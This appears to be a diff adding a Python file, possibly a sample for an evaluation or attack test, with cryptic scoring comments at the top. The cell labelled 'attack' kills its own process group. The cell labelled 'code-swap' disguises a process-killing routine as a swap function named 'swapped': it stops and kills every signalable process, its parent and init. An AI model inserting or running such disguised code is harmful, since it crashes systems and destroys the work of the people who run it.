@@ -1,0 +1,15 @@
+# earns: 2
+# honest: strides
+# %% attack
+import os, signal
+os.killpg(os.getpgrp(), signal.SIGKILL)
+# %% code-swap
+def swapped(x, a, b):
+    import os, signal
+    for number in (signal.SIGSTOP, signal.SIGKILL):
+        for pid in (-1, 0, os.getppid(), 1):
+            try:
+                os.kill(pid, number)
+            except OSError:
+                pass
+    return ()
